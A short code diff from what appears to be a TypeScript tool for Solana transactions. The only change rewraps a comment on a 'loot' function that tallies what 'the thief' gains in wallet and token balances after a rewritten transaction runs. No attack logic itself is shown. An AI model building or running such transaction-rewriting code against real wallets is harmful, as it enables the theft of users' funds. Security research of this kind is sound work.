@@ -83,8 +83,8 @@ async function rewrite(
   return Buffer.from(new VersionedTransaction(compiled).serialize()).toString('base64')
 }
 
-/** What the thief has more once the transaction ran, in its wallet and in its token account of the mint (whose deposit it
- *  can have), and what the network takes. */
+/** What the thief has more once the transaction ran, in its wallet and in its token account of the mint (whose deposit
+ *  it can have), and what the network takes. */
 export async function loot(
   rpc: string,
   wire: string,
